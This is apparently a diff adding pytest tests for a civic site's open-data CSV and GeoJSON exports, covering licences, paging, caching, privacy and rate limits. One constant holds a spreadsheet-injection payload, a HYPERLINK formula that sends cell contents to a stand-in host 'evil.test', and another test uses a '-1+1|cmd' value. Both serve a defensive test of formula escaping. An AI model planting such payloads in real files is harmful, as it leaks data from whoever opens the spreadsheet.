@@ -1,0 +1,236 @@
+"""Files of everything a site has published: whole, safe for a spreadsheet, bounded, and nothing else in them."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+from collections.abc import Callable
+from datetime import date, datetime
+from typing import Any
+
+import httpx2
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from tests.factories import AGENT, EMAIL, PUBLIC_URL, make_site, submit_report
+from widget_api import errors, samples
+from widget_api.context import Context
+from widget_api.http import streaming
+from widget_api.problems import service as problems
+from widget_api.problems.model import Change, Contact
+from widget_api.problems.opendata import model, service
+from widget_api.sites import changes
+from widget_api.sites.model import Site
+
+FORMULA = '=HYPERLINK("http://evil.test/?"&A1;"a")'
+
+
+async def publish(context: Context, site: Site, **report: Any) -> int:
+    receipt = await submit_report(context.database, site, **report)
+    await problems.change(context.database, AGENT, site.id, receipt.problem_id, Change(to="accepted"))
+    return receipt.number
+
+
+def api(site: Site, ending: str) -> str:
+    return f"/api/v1/sites/{site.key}/problems.{ending}"
+
+
+def table(answer: httpx2.Response, separator: str = ",") -> list[dict[str, str]]:
+    """As RFC 4180 and the mark at the beginning have it."""
+    assert answer.status_code == 200, answer.text
+    assert answer.content.startswith(b"\xef\xbb\xbf")
+    assert answer.content.endswith(b"\r\n")
+    return list(
+        csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""), delimiter=separator, strict=True)
+    )
+
+
+async def test_both_files_hold_what_is_published_and_the_licence(
+    client: httpx2.AsyncClient, context: Context, site: Site
+) -> None:
+    number = await publish(context, site, description='Яма «у школы», "глубокая"\nи ещё одна')
+    await publish(context, site, lat=None, lng=None, address="за баней")
+    await submit_report(context.database, site, description="Ещё на модерации")
+    whole = await client.get(api(site, "geojson"))
+    assert whole.headers["content-type"] == "application/geo+json"
+    assert f'attachment; filename="{site.jurisdiction}-' in whole.headers["content-disposition"]
+    data = whole.json()
+    assert data["type"] == "FeatureCollection"
+    assert data["license"] == "https://creativecommons.org/licenses/by/4.0/"
+    assert data["attribution"] == f"{site.name}, {site.agency.name}"
+    assert datetime.fromisoformat(data["generated_at"]).tzinfo is not None
+    without, first = data["features"]
+    assert first["id"] == number
+    assert first["geometry"] == {"type": "Point", "coordinates": [38.7783, 55.0794]}
+    assert first["properties"]["description"] == 'Яма «у школы», "глубокая"\nи ещё одна'
+    assert first["properties"]["url"].endswith(f"/s/{site.key}/problems/{number}")
+    assert without["geometry"] is None
+    rows = table(await client.get(api(site, "csv")))
+    assert tuple(rows[0]) == model.COLUMNS
+    told = [(row["number"], row["lat"], row["status_name"]) for row in rows]
+    assert told == [("2", "", "Принято"), ("1", "55.0794", "Принято")]
+    assert rows[1]["description"] == 'Яма «у школы», "глубокая"\nи ещё одна'
+    for name in ("created_at", "updated_at"):
+        assert rows[0][name].endswith("Z")
+        datetime.fromisoformat(rows[0][name])
+    assert "Ещё на модерации" not in whole.text
+
+
+async def test_a_russian_spreadsheet_gets_semicolons_and_decimal_commas(
+    client: httpx2.AsyncClient, context: Context, site: Site
+) -> None:
+    await publish(context, site)
+    (row,) = table(await client.get(api(site, "csv"), params={"separator": "semicolon"}), ";")
+    assert (row["lat"], row["lng"]) == ("55,0794", "38,7783")
+    wrong = await client.get(api(site, "csv"), params={"separator": "tab"})
+    assert (wrong.status_code, wrong.json()["parameter"]) == (400, "separator")
+
+
+async def test_an_empty_site_has_whole_files(client: httpx2.AsyncClient, site: Site) -> None:
+    assert table(await client.get(api(site, "csv"))) == []
+    assert (await client.get(api(site, "geojson"))).json()["features"] == []
+
+
+async def test_files_go_over_many_pages_each_problem_once(
+    client: httpx2.AsyncClient, context: Context, site: Site, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(service, "PAGE", 3)
+    for index in range(7):
+        await publish(context, site, description=f"Проблема {index}", category="roads" if index % 2 else "snow")
+    for sort, expected in (("new", [7, 6, 5, 4, 3, 2, 1]), ("due", None)):
+        rows = table(await client.get(api(site, "csv"), params={"sort": sort}))
+        numbers = [int(row["number"]) for row in rows]
+        assert sorted(numbers) == [1, 2, 3, 4, 5, 6, 7]
+        assert numbers == (expected or numbers)
+    found = (await client.get(api(site, "geojson"), params={"category": "snow"})).json()["features"]
+    assert {one["properties"]["category"] for one in found} == {"snow"}
+    assert len(found) == 4
+
+
+@pytest.mark.parametrize("ending", ["csv", "geojson"])
+async def test_unchanged_data_costs_nothing_and_a_changed_one_does(
+    client: httpx2.AsyncClient, context: Context, site: Site, ending: str
+) -> None:
+    await publish(context, site)
+    first = await client.get(api(site, ending))
+    again = await client.get(api(site, ending), headers={"If-None-Match": first.headers["etag"]})
+    assert (again.status_code, again.content) == (304, b"")
+    assert first.headers["etag"].startswith('W/"')
+    await publish(context, site)
+    later = await client.get(api(site, ending), headers={"If-None-Match": first.headers["etag"]})
+    assert later.status_code == 200
+    head = await client.head(api(site, ending))
+    assert (head.status_code, head.content) == (200, b"")
+    assert head.headers["etag"] == later.headers["etag"]
+
+
+@pytest.mark.parametrize("query", ["colour=red", "status=open", "bbox=1,2,3", "since=yesterday", "cursor=x", "limit=5"])
+@pytest.mark.parametrize("ending", ["csv", "geojson"])
+async def test_what_is_no_filter_is_refused_by_name(
+    client: httpx2.AsyncClient, site: Site, ending: str, query: str
+) -> None:
+    answer = await client.get(f"{api(site, ending)}?{query}")
+    assert answer.status_code == 400
+    assert answer.headers["content-type"] == "application/problem+json"
+    assert answer.json()["parameter"] == query.partition("=")[0]
+
+
+async def test_the_licence_of_the_site_stands_in_file_and_page(
+    client: httpx2.AsyncClient, context: Context, cli: Callable[..., Any]
+) -> None:
+    site = await make_site(context.database, license="ODbL-1.0")
+    odbl = "https://opendatacommons.org/licenses/odbl/1-0/"
+    assert (await client.get(api(site, "geojson"))).json()["license"] == odbl
+    assert (await client.get(api(site, "csv"))).headers["link"] == f'<{odbl}>; rel="license"'
+    cli("site", "set", site.key, "--license", "https://gorod.test/licence")
+    assert cli("site", "show", site.key)["license"] == "https://gorod.test/licence"
+    assert 'href="https://gorod.test/licence" rel="license"' in (await client.get(f"/s/{site.key}")).text
+    with pytest.raises(errors.Invalid):
+        await changes.update(context.database, site.id, {"license": 'CC> ; rel="x'})
+
+
+async def test_formulas_of_residents_are_text_to_a_spreadsheet(
+    client: httpx2.AsyncClient, context: Context, site: Site
+) -> None:
+    await publish(context, site, description=FORMULA, address="+7 912 000-00-00")
+    await publish(context, site, description=f"Яма;{FORMULA}", address="-1+1|cmd")
+    later, first = table(await client.get(api(site, "csv")))
+    assert first["description"].startswith("'=")
+    assert first["address"].startswith("'+")
+    assert ";'=" in later["description"]
+    assert later["address"].startswith("'-")
+
+
+@given(st.text(st.sampled_from("=+-@\t\r\n;,|\"' aЯ＝"), max_size=12))
+def test_no_cell_begins_like_a_formula_whatever_separator_is_seen(text: str) -> None:
+    """Not even to a program that splits at the other separator, at tabs or at line breaks inside a quoted cell."""
+    for separator in (",", ";"):
+        line = model.lines([{"description": text, "location": None, "photos": []}], separator).decode()
+        for seen in ",;\t|":
+            for physical in line.replace("\r", "\n").split("\n"):
+                for cell in physical.split(seen):
+                    assert cell.strip("\"'")[:0] == ""
+                    assert not cell.lstrip('"').startswith(tuple("=+-@＝")), (text, line)
+        (row,) = csv.reader(io.StringIO(line, newline=""), delimiter=separator, strict=True)
+        assert len(row) == len(model.COLUMNS)
+
+
+async def test_a_negative_place_stays_a_number(client: httpx2.AsyncClient, context: Context, site: Site) -> None:
+    await publish(context, site, lat=-33.9, lng=-70.5)
+    (row,) = table(await client.get(api(site, "csv")))
+    assert (row["lat"], row["lng"]) == ("-33.9", "-70.5")
+
+
+async def test_nothing_personal_and_nothing_unpublished_is_in_a_file(
+    client: httpx2.AsyncClient, context: Context, site: Site
+) -> None:
+    secret = "КАНАРЕЙКА"
+    contact = Contact(email=EMAIL, name=secret, phone="+7 912 345-67-89", publish_name=True)
+    await publish(
+        context, site, contact=contact, page_url=f"https://gorod.test/{secret}", device=secret, answers={"q": secret}
+    )
+    await submit_report(context.database, site, description=f"{secret} не опубликовано")
+    other = await make_site(context.database)
+    await publish(context, other, description=f"{secret} другого сайта")
+    for ending in ("csv", "geojson"):
+        body = (await client.get(api(site, ending))).text
+        for never in (secret, EMAIL, "345-67-89", "203.0.113.7"):
+            assert never not in body
+
+
+async def test_only_so_many_files_at_once_for_one_address(
+    client: httpx2.AsyncClient, context: Context, site: Site, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    await publish(context, site)
+    monkeypatch.setattr(streaming, "STREAMS_OF_ONE", 0)
+    refused = await client.get(api(site, "csv"))
+    assert refused.status_code == 429
+    assert refused.headers["retry-after"] == "10"
+    monkeypatch.setattr(streaming, "STREAMS_OF_ONE", 1)
+    for _ in range(3):  # each gives its place back
+        assert (await client.get(api(site, "csv"))).status_code == 200
+    assert not streaming._streams
+
+
+async def test_a_reader_that_stops_reading_holds_no_connection_of_the_database(
+    context: Context, site: Site, settings: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(service, "PAGE", 50)
+    await samples.fill(settings.database_url, site, 300)
+    export = service.Export(
+        site=site,
+        filters=service.listing.parse([], site),
+        today=date(2026, 11, 25),
+        language="ru",
+        public_url=PUBLIC_URL,
+    )
+    readings = [service.csv(context.database, export, ",") for _ in range(8)]
+    for reading in readings:  # more than there are connections, all in the middle of their file
+        await anext(reading)
+    async with asyncio.timeout(20):
+        assert await context.database.row("SELECT COUNT(*) AS many FROM problems WHERE site_id = :id", id=site.id)
+        rest = [b"".join([piece async for piece in reading]) for reading in readings]
+    assert len(set(rest)) == 1
+    assert rest[0].count(b"\r\n") == 250
